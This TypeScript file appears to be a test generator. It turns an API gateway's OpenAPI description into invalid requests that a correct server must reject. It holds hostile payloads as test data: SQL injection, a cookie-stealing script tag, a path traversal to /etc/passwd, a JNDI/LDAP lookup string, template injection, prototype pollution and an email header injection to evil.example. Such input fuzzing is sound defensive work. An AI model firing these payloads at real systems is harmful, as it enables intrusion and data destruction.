/**
 * Turns the gateway's own OpenAPI document into requests that must be refused: for every
 * operation, each class of hostile input (`AttackClass`) — missing and extra fields, wrong
 * types, out-of-range numbers, oversized and odd strings, bodies too wide or too deep,
 * reserved field names, control characters and broken Unicode in every text field, query
 * parameter and path parameter, line breaks in text fields, bodies of the wrong type or
 * compressed, hostile identifiers, and bad credentials. Every generated request is invalid
 * as a whole (so a correct server answers 4xx and changes nothing), while still carrying
 * hostile content through parsing and validation. Where the answer is known exactly (the
 * status, the field it must name), the request says so in `expect`.
 */

export interface OpenApiDocument {
  paths: Record<string, Record<string, OperationObject>>;
  components?: { schemas?: Record<string, SchemaObject> };
}

interface OperationObject {
  operationId?: string;
  /** Who may call it, as the gateway documents it: public, authenticated, or the roles. */
  'x-access'?: string;
  parameters?: ParameterObject[];
  requestBody?: { required?: boolean; content?: Record<string, { schema?: SchemaObject }> };
  security?: Record<string, string[]>[];
}

interface ParameterObject {
  name: string;
  in: 'path' | 'query' | 'header' | 'cookie';
  required?: boolean;
  schema?: SchemaObject;
}

export interface SchemaObject {
  $ref?: string;
  type?: string;
  format?: string;
  enum?: unknown[];
  properties?: Record<string, SchemaObject>;
  required?: string[];
  items?: SchemaObject;
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  allOf?: SchemaObject[];
  oneOf?: SchemaObject[];
  nullable?: boolean;
}

export type Credential =
  | 'none'
  | 'malformed'
  | 'expired'
  | 'forged'
  | 'noExpiry'
  | 'badSession'
  | 'deactivated'
  | 'staff'
  | 'admin';

/** The classes of hostile input, as the test reports its counts. */
export type AttackClass =
  | 'credentials'
  | 'path parameters'
  | 'query parameters'
  | 'body fields'
  | 'body shape (wide, deep, long)'
  | 'reserved field names'
  | 'control characters and broken Unicode'
  | 'line breaks in text'
  | 'body type and encoding'
  | 'role'
  | 'csv import';

export interface AttackRequest {
  label: string;
  kind: AttackClass;
  /** What exactly a correct server answers, where that is known. */
  expect?: { status: number; field?: string };
  method: string;
  path: string;
  query: Record<string, string>;
  credential: Credential;
  headers?: Record<string, string>;
  /** A JSON body, or a raw body for anything else. */
  body?: unknown;
  rawBody?: string | Uint8Array;
  contentType?: string;
}

export interface Operation {
  method: string;
  template: string;
  operation: OperationObject;
  isPublic: boolean;
  bodySchema?: SchemaObject;
  contentType?: string;
}

const SQL = "' OR 1=1; DROP TABLE users; --";
const SCRIPT = '<script>alert(document.cookie)</script>';
const TRAVERSAL = '../../../../etc/passwd';
const UNICODE = 'Ω≈ç√∫ 😀 \u202e\u0645\u0631\u062d\u0628\u0627 \u0000\u0007';
export const HUGE_STRING = 'A'.repeat(1024 * 1024);

/** Text no field takes: NUL (Postgres cannot store it) and other control characters. */
export const CONTROL_STRINGS = ['\u0000', '\u001b[2J', '\u0007'];
/** Unpaired surrogates: not Unicode text at all (they can only travel inside JSON). */
const BROKEN_UNICODE = ['\ud800', '\udfff'];
/** Line breaks and their look-alikes: structure in subjects, CSV cells and logs. */
const LINE_BREAKS = ['\r\n', '\n', '\u2028'];

export const HOSTILE_STRINGS = [
  SQL,
  SCRIPT,
  TRAVERSAL,
  UNICODE,
  '%00%2e%2e%2f',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
];

export function operations(doc: OpenApiDocument): Operation[] {
  const result: Operation[] = [];
  for (const [template, methods] of Object.entries(doc.paths)) {
    for (const [method, operation] of Object.entries(methods)) {
      if (!['get', 'post', 'put', 'patch', 'delete'].includes(method)) continue;
      const content = operation.requestBody?.content ?? {};
      const contentType = Object.keys(content)[0];
      result.push({
        method: method.toUpperCase(),
        template,
        operation,
        isPublic: !operation.security || operation.security.length === 0,
        bodySchema: contentType ? resolve(doc, content[contentType].schema) : undefined,
        contentType,
      });
    }
  }
  return result;
}

export function resolve(
  doc: OpenApiDocument,
  schema: SchemaObject | undefined,
): SchemaObject | undefined {
  if (!schema) return undefined;
  if (schema.$ref) {
    const name = schema.$ref.split('/').pop()!;
    return resolve(doc, doc.components?.schemas?.[name]);
  }
  if (schema.allOf?.length) {
    const parts = schema.allOf.map((part) => resolve(doc, part) ?? {});
    return {
      type: 'object',
      properties: Object.assign({}, ...parts.map((p) => p.properties ?? {})),
      required: parts.flatMap((p) => p.required ?? []),
    };
  }
  return schema;
}

/** A plausible valid value for a schema, used to build bodies with exactly one thing wrong. */
export function sample(doc: OpenApiDocument, schema: SchemaObject | undefined, depth = 0): unknown {
  const s = resolve(doc, schema);
  if (!s || depth > 4) return 'x';
  if (s.enum?.length) return s.enum[0];
  switch (s.type) {
    case 'integer':
      return Math.max(1, s.minimum ?? 1);
    case 'number':
      return Math.max(1, s.minimum ?? 1);
    case 'boolean':
      return true;
    case 'array':
      return [sample(doc, s.items, depth + 1)];
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const [key, prop] of Object.entries(s.properties ?? {}))
        out[key] = sample(doc, prop, depth + 1);
      return out;
    }
    default:
      if (s.format === 'uuid') return '00000000-0000-4000-8000-000000000000';
      if (s.format === 'email') return 'someone@example.com';
      if (s.format === 'date-time') return new Date().toISOString();
      return 'valid-text';
  }
}

function wrongTypeValues(schema: SchemaObject): unknown[] {
  switch (schema.type) {
    case 'integer':
      return ['abc', 1.5, -1, 0, 1e308, 2 ** 53 + 1, true, [], {}, null];
    case 'number':
      return ['abc', -1e308, 1e308, true, [], {}];
    case 'boolean':
      return ['yes', 2, [], {}];
    case 'array':
      return ['not-an-array', 42, {}];
    case 'object':
      return ['not-an-object', 42, []];
    default:
      return [12345, true, [], {}, null, HUGE_STRING.slice(0, 70_000)];
  }
}

/** Path with every parameter filled: valid-looking ids unless `bad` names one to break. */
function fillPath(template: string, bad?: { name: string; value: string }): string {
  return template.replace(/\{([^}]+)\}/g, (_, name: string) =>
    encodeURIComponent(bad?.name === name ? bad.value : '00000000-0000-4000-8000-000000000000'),
  );
}

export function attacks(doc: OpenApiDocument, op: Operation): AttackRequest[] {
  const list: AttackRequest[] = [];
  const path = fillPath(op.template);
  const name = `${op.method} ${op.template}`;
  let kind: AttackClass = 'credentials';
  const base = {
    method: op.method,
    query: {} as Record<string, string>,
    get kind() {
      return kind;
    },
  };

  // Credentials: none, malformed, expired, signed with another key, validly signed but
  // without an expiry or with a session id that is not a UUID, a deactivated user's.
  if (!op.isPublic) {
    for (const credential of [
      'none',
      'malformed',
      'expired',
      'forged',
      'noExpiry',
      'badSession',
      'deactivated',
    ] as Credential[]) {
      list.push({
        ...base,
        path,
        credential,
        label: `${name}: ${credential} token`,
        body: sampleBody(doc, op),
        expect: { status: 401 },
      });
    }
  }
  kind = 'path parameters';

  // Path parameters: hostile identifiers.
  for (const param of (op.operation.parameters ?? []).filter((p) => p.in === 'path')) {
    for (const value of [...HOSTILE_STRINGS, 'not-a-uuid', '-1', '9'.repeat(400)]) {
      list.push({
        ...base,
        path: fillPath(op.template, { name: param.name, value }),
        credential: 'admin',
        label: `${name}: path ${param.name}=${JSON.stringify(value).slice(0, 30)}`,
        body: sampleBody(doc, op),
        // The body is made invalid too, so even a lenient id lookup cannot succeed.
        ...(op.bodySchema
          ? { body: { ...(sampleBody(doc, op) as object), unexpectedField: SQL } }
          : {}),
      });
    }
  }

  // Path parameters: control characters (a NUL reached Postgres).
  for (const param of (op.operation.parameters ?? []).filter((p) => p.in === 'path')) {
    for (const value of CONTROL_STRINGS) {
      list.push({
        ...base,
        kind: 'control characters and broken Unicode',
        path: fillPath(op.template, { name: param.name, value }),
        credential: 'admin',
        label: `${name}: path ${param.name}=${JSON.stringify(value)}`,
        ...(op.bodySchema ? { body: sampleBody(doc, op) } : {}),
        expect: { status: 400, field: param.name },
      });
    }
  }
  kind = 'query parameters';

  // Query parameters: wrong types and out-of-range values.
  for (const param of (op.operation.parameters ?? []).filter((p) => p.in === 'query')) {
    const schema = resolve(doc, param.schema) ?? { type: 'string' };
    const values =
      schema.type === 'integer' || schema.type === 'number'
        ? ['abc', '-1', '0', '1.5', '1e309', '99999999999999999999']
        : schema.enum
          ? ['not-one-of-them', SQL]
          : schema.format === 'uuid'
            ? ['not-a-uuid', SQL, TRAVERSAL]
            : schema.format === 'date-time'
              ? ['yesterday', '2024-13-45T99:99:99Z']
              : [];
    for (const value of values) {
      list.push({
        ...base,
        path,
        credential: 'admin',
        query: { [param.name]: value },
        label: `${name}: query ${param.name}=${value}`,
      });
    }
    list.push({
      ...base,
      path,
      credential: 'admin',
      query: { [param.name]: HUGE_STRING.slice(0, 8000) },
      label: `${name}: query ${param.name} oversized`,
    });
    for (const value of CONTROL_STRINGS) {
      list.push({
        ...base,
        kind: 'control characters and broken Unicode',
        path,
        credential: 'admin',
        query: { [param.name]: value },
        label: `${name}: query ${param.name}=${JSON.stringify(value)}`,
        expect: { status: 400, field: param.name },
      });
    }
  }

  // Unknown query parameter with hostile content on routes that validate their query
  // (routes that take none ignore the query string, as HTTP servers do).
  if ((op.operation.parameters ?? []).some((p) => p.in === 'query')) {
    list.push({
      ...base,
      path,
      credential: 'admin',
      query: { [SQL]: SCRIPT },
      label: `${name}: hostile unknown query`,
    });
  }

  // Bodies of a type the route does not take, or compressed: refused before any of it is read.
  if (op.bodySchema) {
    kind = 'body type and encoding';
    const json = JSON.stringify(sample(doc, op.bodySchema));
    const bodies: [string, string][] = [
      ['application/x-www-form-urlencoded', 'email=victim%40example.com&role=admin'],
      ['text/plain', json],
      [
        'multipart/form-data; boundary=x',
        '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--x--',
      ],
      ['application/xml', '<a>b</a>'],
    ];
    if (!op.contentType?.includes('csv'))
      bodies.push(['text/csv', `sku,name\n${'A,B\n'.repeat(5000)}`]);
    for (const [contentType, rawBody] of bodies) {
      list.push({
        ...base,
        path,
        credential: 'admin',
        rawBody,
        contentType,
        label: `${name}: ${contentType.split(';')[0]} body`,
        expect: { status: 415 },
      });
    }
    list.push({
      ...base,
      path,
      credential: 'admin',
      rawBody: json,
      contentType: op.contentType?.includes('csv') ? 'text/csv' : 'application/json',
      headers: { 'content-encoding': 'gzip' },
      label: `${name}: Content-Encoding gzip`,
      expect: { status: 415 },
    });
  }

  // Bodies.
  if (op.bodySchema && (!op.contentType || op.contentType.includes('json'))) {
    kind = 'body fields';
    const schema = op.bodySchema;
    const valid = sample(doc, schema) as Record<string, unknown>;
    if (schema.required?.length) {
      list.push({ ...base, path, credential: 'admin', body: {}, label: `${name}: empty object` });
    }
    list.push({
      ...base,
      path,
      credential: 'admin',
      rawBody: '{"broken": ',
      contentType: 'application/json',
      label: `${name}: malformed JSON`,
    });
    list.push({
      ...base,
      path,
      credential: 'admin',
      body: [valid],
      label: `${name}: array instead of object`,
    });
    list.push({
      ...base,
      path,
      credential: 'admin',
      body: { ...valid, [SQL]: SCRIPT },
      label: `${name}: extra hostile field`,
    });
    list.push({
      ...base,
      path,
      credential: 'admin',
      body: {
        ...valid,
        __proto__: { admin: true },
        constructor: { prototype: { polluted: true } },
      },
      label: `${name}: prototype pollution`,
    });
    list.push({
      ...base,
      path,
      credential: 'admin',
      rawBody: JSON.stringify({ ...valid, blob: HUGE_STRING }),
      contentType: 'application/json',
      label: `${name}: 1 MB body`,
    });
    for (const required of schema.required ?? []) {
      const body = { ...valid };
      delete body[required];
      list.push({
        ...base,
        path,
        credential: 'admin',
        body,
        label: `${name}: missing ${required}`,
      });
    }
    kind = 'body shape (wide, deep, long)';
    const wide = Object.entries(valid).map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`);
    for (let i = 0; i < 20_000; i++) wide.push(`"f${i.toString(36)}":0`);
    for (const [label, rawBody, field] of [
      ['20,000 fields', `{${wide.join(',')}}`, 'body'],
      ['50,000 nested objects', `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`, 'a.a.a'],
      ['100,000 nested arrays', `${'['.repeat(100_000)}${']'.repeat(100_000)}`, '[0][0]'],
      ['a 20,000-item array', JSON.stringify(Array.from({ length: 20_000 }, (_, i) => i)), 'body'],
    ] as const) {
      list.push({
        ...base,
        path,
        credential: 'admin',
        rawBody,
        contentType: 'application/json',
        label: `${name}: ${label}`,
        expect: { status: 400, field },
      });
    }

    kind = 'reserved field names';
    for (const reserved of ['constructor', 'toString', 'hasOwnProperty', '__proto__']) {
      list.push({
        ...base,
        path,
        credential: 'admin',
        // A computed key makes even "__proto__" an own field, as JSON.parse does.
        rawBody: JSON.stringify({ ...valid, [reserved]: 'y' }),
        contentType: 'application/json',
        label: `${name}: top-level "${reserved}"`,
        expect: { status: 400, field: reserved },
      });
    }
    for (const [field, prop] of Object.entries(schema.properties ?? {})) {
      const type = resolve(doc, prop)?.type;
      if (type !== 'object' && type !== 'array') continue;
      const nested = type === 'object' ? { constructor: 'y' } : [{ constructor: 'y' }];
      list.push({
        ...base,
        path,
        credential: 'admin',
        body: { ...valid, [field]: nested },
        label: `${name}: "constructor" inside ${field}`,
        expect: {
          status: 400,
          field: type === 'object' ? `${field}.constructor` : `${field}[0].constructor`,
        },
      });
    }

    for (const [field, prop] of Object.entries(schema.properties ?? {})) {
      const resolved = resolve(doc, prop) ?? {};
      if (!resolved.type || resolved.type === 'string') {
        for (const value of [...CONTROL_STRINGS, ...BROKEN_UNICODE]) {
          list.push({
            ...base,
            kind: 'control characters and broken Unicode',
            path,
            credential: 'admin',
            body: { ...valid, [field]: `a${value}b` },
            label: `${name}: ${field} holding ${JSON.stringify(value)}`,
            expect: { status: 400, field },
          });
        }
        for (const value of LINE_BREAKS) {
          // Multi-line fields take these; the extra field keeps the request invalid.
          list.push({
            ...base,
            kind: 'line breaks in text',
            path,
            credential: 'admin',
            body: { ...valid, [field]: `first${value}Bcc: x@evil.example`, unexpectedField: true },
            label: `${name}: ${field} holding ${JSON.stringify(value)}`,
          });
        }
      }
    }
    kind = 'body fields';
    for (const [field, prop] of Object.entries(schema.properties ?? {})) {
      const resolved = resolve(doc, prop) ?? {};
      for (const value of wrongTypeValues(resolved)) {
        // An extra field keeps the request invalid even when a value happens to be accepted.
        list.push({
          ...base,
          path,
          credential: 'admin',
          body: { ...valid, [field]: value, unexpectedField: true },
          label: `${name}: ${field}=${JSON.stringify(value)?.slice(0, 30)}`,
        });
      }
      if (!resolved.type || resolved.type === 'string') {
        for (const value of [...HOSTILE_STRINGS, HUGE_STRING.slice(0, 200_000)]) {
          list.push({
            ...base,
            path,
            credential: 'admin',
            body: { ...valid, [field]: value, unexpectedField: SQL },
            label: `${name}: ${field}=${JSON.stringify(value).slice(0, 30)}`,
          });
        }
      }
    }
  }
  return list;
}

function sampleBody(doc: OpenApiDocument, op: Operation): unknown {
  return op.bodySchema ? sample(doc, op.bodySchema) : undefined;
}
